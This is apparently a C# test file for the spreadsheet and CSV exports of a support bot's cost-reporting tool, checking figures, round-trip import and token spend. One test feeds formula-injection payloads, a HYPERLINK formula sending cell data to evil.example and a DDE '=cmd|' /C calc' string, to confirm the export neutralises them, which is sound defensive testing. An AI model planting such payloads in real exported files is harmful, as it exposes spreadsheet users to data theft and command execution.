using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using Microsoft.Extensions.DependencyInjection;
using SelfServiceBot.Costs.Exports;
using SelfServiceBot.Costs.Reports;
using SelfServiceBot.Costs.Tests.Infrastructure;
using SelfServiceBot.Costs.Tests.Reports;
using SelfServiceBot.Data;
using static SelfServiceBot.Costs.Ledger.ContactOutcomes;
using static SelfServiceBot.Costs.Tests.Infrastructure.Contacts;

namespace SelfServiceBot.Costs.Tests.Exports;

/// <summary>The exported files open and hold the report's numbers.</summary>
public class ExportTests
{
    private static readonly DateOnly From = new(2026, 3, 1), To = new(2026, 4, 1);

    private static async Task<(LedgerHarness, CostReport)> ArrangeAsync()
    {
        var h = await LedgerHarness.CreateAsync(DatabaseProvider.Sqlite);
        var t = new DateTimeOffset(2026, 3, 2, 10, 0, 0, TimeSpan.Zero);
        await SaveAsync(h,
            Closed(DeflectedConfirmed, "a", t, category: "orders", article: "track-order"),
            Closed(Escalated, "b", t.AddDays(1), channel: "msteams", category: "payment", reason: "policy", handleMinutes: 12.5m, csat: 4),
            Closed(HumanDirect, "c", t.AddDays(2), channel: "phone", category: "payment", handleMinutes: 7));
        var report = await h.Services.GetRequiredService<CostReportService>().ReportAsync(From, To, TestModels.Standard(), default);
        return (h, report);
    }

    [Fact]
    public async Task The_workbook_opens_and_its_sheets_hold_the_reports_numbers_and_every_contact()
    {
        var (h, report) = await ArrangeAsync();
        await using var _ = h;
        using var file = new MemoryStream();

        await ExcelExport.WriteAsync(report, h.Services.GetRequiredService<ContactList>().ReadAsync(From, To, default), file, default);

        file.Position = 0;
        using var document = SpreadsheetDocument.Open(file, false);
        var summary = Sheet(document, "summary");
        Assert.Equal(report.HumanCpc, decimal.Parse(Value(summary, "human_cpc"), System.Globalization.CultureInfo.InvariantCulture));
        Assert.Equal(report.BotTotal, decimal.Parse(Value(summary, "bot_total"), System.Globalization.CultureInfo.InvariantCulture));
        Assert.Equal("3", Value(summary, "contacts"));
        var categories = Sheet(document, "by_category");
        Assert.Equal(["category", "contacts"], categories[0].Take(2));
        Assert.Equal("payment", categories[1][0]);
        Assert.Equal("A", categories[1][9]);
        var contacts = Sheet(document, "contacts");
        Assert.Equal(4, contacts.Count);
        Assert.Contains(contacts, row => row[6] == "escalated" && row[10] == "12.5");
    }

    [Fact]
    public async Task The_csv_holds_each_table_and_the_contact_list_imports_back()
    {
        var (h, report) = await ArrangeAsync();
        await using var _ = h;
        var csv = new StringWriter();
        await CsvExport.WriteReportAsync(report, csv);
        var list = new StringWriter();
        await CsvExport.WriteContactsAsync(h.Services.GetRequiredService<ContactList>().ReadAsync(From, To, default), list, default);

        var text = csv.ToString();
        Assert.Contains("# by_escalation_reason\nreason,count,human_cost\npolicy,1,", text.Replace("\r\n", "\n"));
        Assert.Contains($"gross_savings,{ReportTables.Format(report.GrossSavings)}", text);
        var again = await h.Services.GetRequiredService<SelfServiceBot.Costs.Import.ContactImporter>().ImportAsync(new StringReader(list.ToString()), default);
        // The fixtures are imported contacts: the list updates them, every row valid, nothing duplicated.
        Assert.Equal((0, 3, 0), (again.Inserted, again.Updated, again.Errors.Count));
        Assert.Equal(3, (await h.ContactsAsync()).Count);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")")]
    [InlineData("+1+1")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1)")]
    [InlineData("\tcmd")]
    public async Task A_text_cell_that_a_spreadsheet_would_run_as_a_formula_is_exported_behind_a_quote_and_imports_back_as_it_was(string customer)
    {
        await using var h = await LedgerHarness.CreateAsync(DatabaseProvider.Sqlite);
        var t = new DateTimeOffset(2026, 3, 2, 10, 0, 0, TimeSpan.Zero);
        await SaveAsync(h, Closed(Escalated, customer, t, category: "=cmd|' /C calc'!A0", reason: "policy", handleMinutes: 3));
        var list = new StringWriter();
        await CsvExport.WriteContactsAsync(h.Services.GetRequiredService<ContactList>().ReadAsync(From, To, default), list, default);
        var report = new StringWriter();
        await CsvExport.WriteReportAsync(await h.Services.GetRequiredService<CostReportService>().ReportAsync(From, To, TestModels.Standard(), default), report);

        var rows = await SelfServiceBot.Costs.Import.CsvReader.ReadAsync(new StringReader(list.ToString())).ToListAsync();
        Assert.Equal("'" + customer, rows[1].Fields[1]);
        Assert.Equal("'=cmd|' /C calc'!A0", rows[1].Fields[7]);
        Assert.Contains("\n'=cmd|' /C calc'!A0,1,", report.ToString().Replace("\r\n", "\n"));
        // Every cell of both files, unquoted: none starts a formula.
        var cells = rows.Concat(await SelfServiceBot.Costs.Import.CsvReader.ReadAsync(new StringReader(report.ToString())).ToListAsync())
            .SelectMany(r => r.Fields);
        Assert.DoesNotContain(cells, c => c.Length > 0 && c[0] is '=' or '+' or '@' or '\t' or '\r' || (c.StartsWith('-') && !decimal.TryParse(c, System.Globalization.NumberStyles.Number, System.Globalization.CultureInfo.InvariantCulture, out _)));

        var again = await h.Services.GetRequiredService<SelfServiceBot.Costs.Import.ContactImporter>().ImportAsync(new StringReader(list.ToString()), default);
        Assert.Equal((0, 1, 0), (again.Inserted, again.Updated, again.Errors.Count));
        var contact = Assert.Single(await h.ContactsAsync());
        Assert.Equal(customer.Trim(), contact.CustomerId);
        Assert.Equal("=cmd|' /C calc'!A0", contact.Category);
    }

    [Fact]
    public async Task Across_model_versions_both_files_hold_the_json_figures_the_versions_csat_and_budget()
    {
        await using var h = await LedgerHarness.CreateAsync(DatabaseProvider.Sqlite);
        var t = new DateTimeOffset(2026, 3, 2, 10, 0, 0, TimeSpan.Zero);
        await SaveAsync(h,
            Closed(DeflectedConfirmed, "a", t, category: "orders", article: "track-order", csat: 5),
            Closed(Escalated, "b", t.AddDays(1), category: "payment", reason: "policy", handleMinutes: 12.5m, csat: 4),
            Closed(Escalated, "c", t.AddDays(20), category: "payment", reason: "policy", csat: 2),
            Closed(DeflectedAssumed, "d", t.AddDays(21), category: "orders", article: "track-order"));
        var store = h.Services.GetRequiredService<SelfServiceBot.Costs.Model.CostModelStore>();
        await store.SaveAsync(TestModels.Standard(), From, "test", default);
        await store.SaveAsync(ModelVersionTests.Raised(), new DateOnly(2026, 3, 16), "test", default);
        var report = await h.Services.GetRequiredService<CostReportService>().ReportAsync(From, To, null, default);
        using var json = System.Text.Json.JsonDocument.Parse(report.ToJson());
        var root = json.RootElement;
        using var file = new MemoryStream();
        await ExcelExport.WriteAsync(report, h.Services.GetRequiredService<ContactList>().ReadAsync(From, To, default), file, default);
        var csv = new StringWriter();
        await CsvExport.WriteReportAsync(report, csv);
        file.Position = 0;
        using var document = SpreadsheetDocument.Open(file, false);
        var csvTables = CsvTables(csv.ToString());

        foreach (var (name, sheet) in new[] { "summary", "model_versions", "csat", "budget" }.Select(n => (n, Sheet(document, n))))
        {
            Assert.Equal(sheet.Select(r => string.Join(',', r.Select(SelfServiceBot.Costs.Import.CsvReader.Escape))), csvTables[name]);
        }
        var summary = Sheet(document, "summary");
        foreach (var row in summary.Skip(1).Where(r => root.GetProperty(r[0]).ValueKind == System.Text.Json.JsonValueKind.Number))
        {
            Assert.Equal(root.GetProperty(row[0]).GetDecimal(), decimal.Parse(row[1], System.Globalization.CultureInfo.InvariantCulture));
        }
        Assert.Equal("stored:1, stored:2", Value(summary, "model_source"));
        var versions = Sheet(document, "model_versions");
        Assert.Equal(3, versions.Count);
        for (var i = 0; i < 2; i++)
        {
            var v = root.GetProperty("model_versions")[i];
            Assert.Equal($"{v.GetProperty("from")},{v.GetProperty("to")},{v.GetProperty("model_source")}",
                $"{versions[i + 1][0]},{versions[i + 1][1]},{versions[i + 1][3]}");
            Assert.Equal(v.GetProperty("human_cpc").GetDecimal(), decimal.Parse(versions[i + 1][8], System.Globalization.CultureInfo.InvariantCulture));
        }
        var csat = Sheet(document, "csat");
        Assert.Equal(["escalated", "2", "3"], csat.Single(r => r[0] == "escalated")[..3]);
        var budget = Sheet(document, "budget");
        Assert.Equal(root.GetProperty("budget").GetProperty("human").GetProperty("variance").GetDecimal(),
            decimal.Parse(budget.Single(r => r[0] == "human")[4], System.Globalization.CultureInfo.InvariantCulture));
    }

    [Fact]
    public async Task Both_files_hold_the_models_tokens_and_spend_in_the_summary_and_per_month()
    {
        await using var h = await LedgerHarness.CreateAsync(DatabaseProvider.Sqlite);
        var t = new DateTimeOffset(2026, 3, 2, 10, 0, 0, TimeSpan.Zero);
        await SaveAsync(h,
            Closed(DeflectedConfirmed, "a", t, category: "orders", inputTokens: 1500, outputTokens: 150),
            Closed(Escalated, "b", t.AddDays(31), category: "payment", reason: "policy", inputTokens: 2700, outputTokens: 270));
        var report = await h.Services.GetRequiredService<CostReportService>().ReportAsync(From, new DateOnly(2026, 5, 1), TestModels.Standard(), default);
        using var file = new MemoryStream();
        await ExcelExport.WriteAsync(report, h.Services.GetRequiredService<ContactList>().ReadAsync(From, To, default), file, default);
        var csv = new StringWriter();
        await CsvExport.WriteReportAsync(report, csv);
        file.Position = 0;
        using var document = SpreadsheetDocument.Open(file, false);

        // At 2 and 8 per million: March (1500 x 2 + 150 x 8) / 1e6, April (2700 x 2 + 270 x 8) / 1e6.
        string[] expected = ["month,llm_input_tokens,llm_output_tokens,llm_spend", "2026-03,1500,150,0.0042", "2026-04,2700,270,0.00756"];
        Assert.Equal(expected, CsvTables(csv.ToString())["llm_by_month"]);
        Assert.Equal(expected, Sheet(document, "llm_by_month").Select(r => string.Join(',', r)));
        var summary = Sheet(document, "summary");
        Assert.Equal(("4200", "420", "0.01176"), (Value(summary, "llm_input_tokens"), Value(summary, "llm_output_tokens"), Value(summary, "llm_spend")));
    }

    /// <summary>The CSV's "# name" sections: each table's lines (header first).</summary>
    private static Dictionary<string, List<string>> CsvTables(string csv)
    {
        var tables = new Dictionary<string, List<string>>();
        List<string>? current = null;
        foreach (var line in csv.Replace("\r\n", "\n").Split('\n'))
        {
            if (line.StartsWith("# ", StringComparison.Ordinal)) tables[line[2..]] = current = [];
            else if (line.Length > 0) current!.Add(line);
        }
        return tables;
    }

    private static List<string[]> Sheet(SpreadsheetDocument document, string name)
    {
        var workbook = document.WorkbookPart!;
        var sheet = workbook.Workbook.Descendants<Sheet>().Single(s => s.Name == name);
        var part = (WorksheetPart)workbook.GetPartById(sheet.Id!);
        return part.Worksheet.Descendants<Row>()
            .Select(r => r.Elements<Cell>().Select(c => c.InlineString?.InnerText ?? c.CellValue?.Text ?? "").ToArray())
            .ToList();
    }

    private static string Value(List<string[]> summary, string figure) => summary.Single(r => r[0] == figure)[1];
}
